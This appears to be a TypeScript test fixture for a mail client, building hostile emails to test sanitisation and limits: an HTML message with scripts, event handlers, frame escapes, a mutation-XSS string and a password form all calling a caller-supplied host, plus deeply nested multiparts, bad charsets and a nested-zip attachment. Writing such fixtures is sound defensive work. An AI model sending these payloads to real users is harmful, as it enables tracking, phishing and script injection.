// Messages made to do harm: they run code, call home, or cost memory and time without end.

const envelope = (subject: string, ...more: string[]): string[] => [
  'From: "Mallory" <mallory@example.net>',
  'To: anna@harbour.test',
  `Subject: ${subject}`,
  'Date: Mon, 5 Feb 2018 10:00:00 +0100',
  `Message-ID: <${subject.replace(/\W+/g, '.')}@example.net>`,
  'MIME-Version: 1.0',
  ...more,
];
const lines = (...parts: readonly string[]): string => parts.join('\r\n');

/** HTML that tries every way out of the frame; `home` is where each of them would call. */
export function hostileHtml(home: string): string {
  return lines(
    ...envelope('Everything at once', 'Content-Type: text/html; charset=utf-8'),
    '',
    `<html><head><base href="${home}/base/"><meta http-equiv="refresh" content="0;url=${home}/refresh">`,
    `<link rel="stylesheet" href="${home}/style.css"><link rel="preconnect" href="${home}"><link rel="dns-prefetch" href="${home}">`,
    `<style>@import url("${home}/import.css"); @font-face { font-family: x; src: url("${home}/font.woff") }`,
    `body { background: url("${home}/css.png"); font-family: x } .ok { color: rgb(200, 0, 0) }</style>`,
    `<script>fetch("${home}/script"); parent.intruded = true</script><script src="${home}/script.js"></script></head>`,
    `<body onload="fetch('${home}/onload')" background="${home}/body.png">`,
    '<p class="ok" style="color: rgb(0, 0, 200); background-image: url(' +
      `${home}/attribute.png` +
      ')">Dear customer</p>',
    `<img src="${home}/pixel.png" srcset="${home}/set.png 2x" onerror="fetch('${home}/error')" alt="Logo">`,
    `<picture><source srcset="${home}/picture.png"><img src="${home}/picture2.png"></picture>`,
    '<img src="cid:nobody@example.net"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${home}/svg')"><image href="${home}/svg.png"/><use href="${home}/use.svg#x"/><script>fetch("${home}/svg-script")</script><foreignObject><img src="${home}/foreign.png"></foreignObject></svg>`,
    `<math><mtext><img src="${home}/math.png"></mtext></math>`,
    `<iframe src="${home}/frame"></iframe><iframe srcdoc="<script>parent.parent.intruded = true</script>"></iframe>`,
    `<object data="${home}/object"></object><embed src="${home}/embed"><video src="${home}/video" poster="${home}/poster.png" autoplay></video><audio src="${home}/audio" autoplay></audio>`,
    `<form action="${home}/form" method="post"><input name="password" type="password" autofocus onfocus="fetch('${home}/focus')"><button formaction="${home}/button">Log in</button></form>`,
    `<a href="${home}/link" ping="${home}/ping" target="_top">Open your invoice</a> <a href="javascript:parent.intruded=true">click</a>`,
    `<template><img src="${home}/template.png"></template><noscript><img src="${home}/noscript.png"></noscript>`,
    `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${home}/mutation onerror=alert(1)&gt;"></mglyph></table></mi></math>`,
    `<div style="position:fixed;inset:0;background:url(${home}/fixed.png)"></div><table background="${home}/table.png"><tr><td>cell</td></tr></table>`,
    '<p>The end</p></body></html>',
    '',
  );
}

/** Multiparts in multiparts. */
export function deepNesting(depth: number): string {
  const opened = Array.from({ length: depth }, (_, level) =>
    lines(`Content-Type: multipart/mixed; boundary="b${level}"`, '', `--b${level}`, ''),
  );
  return `${lines(...envelope('Deep'))}\r\n${opened.join('')}Content-Type: text/plain\r\n\r\nbottom\r\n`;
}

/** Messages forwarded in messages. */
export function messagesInMessages(depth: number): string {
  const opened = Array.from({ length: depth }, (_, level) =>
    lines(`Subject: level ${level}`, 'Content-Type: message/rfc822', '', ''),
  );
  return `${opened.join('')}Subject: innermost\r\n\r\nbottom\r\n`;
}

export function manyHeaders(count: number): string {
  const more = Array.from({ length: count }, (_, index) => `X-Field-${index}: value ${index}`);
  return lines(...envelope('Many headers', ...more), '', 'The body.', '');
}

/** Says one charset, uses another; names one that does not exist. One character a byte. */
export const wrongCharset: string = lines(
  ...envelope(
    'Gr\xfc\xdfe =?no-such-charset?q?=FF=FE?= =?utf-8?b?////?=',
    'Content-Type: text/plain; charset=x-unknown-8',
  ),
  '',
  'caf\xe9 and \xff\xfe\x00 and \xc3',
  '',
);

/** An archive in an archive, by name and by first bytes: it is listed, never opened. */
export const nestedArchives: string = lines(
  ...envelope('Archives', 'Content-Type: multipart/mixed; boundary=z'),
  '',
  '--z',
  'Content-Type: text/plain',
  '',
  'See the attachment.',
  '--z',
  'Content-Type: application/zip; name="42.zip"',
  'Content-Transfer-Encoding: base64',
  'Content-Disposition: attachment; filename="42.zip"',
  '',
  'UEsDBBQAAAAIAAAAIQAAAAAA/////wAAAAAFAAAAMS56aXA=',
  '--z--',
  '',
);
